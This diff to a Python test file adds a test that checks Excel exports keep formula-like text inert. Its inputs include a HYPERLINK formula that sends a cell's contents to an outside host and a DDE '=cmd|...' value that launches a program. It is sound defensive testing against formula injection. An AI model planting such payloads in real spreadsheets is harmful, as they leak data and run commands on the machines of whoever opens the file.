@@ -104,6 +104,17 @@ def test_a_form_saved_by_libreoffice_comes_back_with_rates_and_formulas_as_peopl
     assert report_excel_reader.read(path, form).identity == MINE
 
 
+@pytest.mark.parametrize("text", ['=HYPERLINK("http://x.vn/?"&C3,"Báo cáo")', "+84 việc", "-1+1", "@SUM(A1)"])
+def test_a_text_that_excel_would_compute_stays_a_text_out_and_back(filled, form, text):
+    known = {Field("shortcomings", Column.RESULT): text}
+    named = Identity("review", "kỳ/2023", "chi_bo_1", "=cmd|'/c calc'!A1", text)
+
+    book = load_workbook(BytesIO(report_excel.write(form, named, known)))
+
+    assert "f" not in {cell.data_type for sheet in book for row in sheet.iter_rows() for cell in row}
+    assert read(filled(known=known), form) == (known, [])
+
+
 def test_an_empty_form_is_a_form_with_no_answers(filled, form):
     assert read(filled(), form) == ({}, [])
 
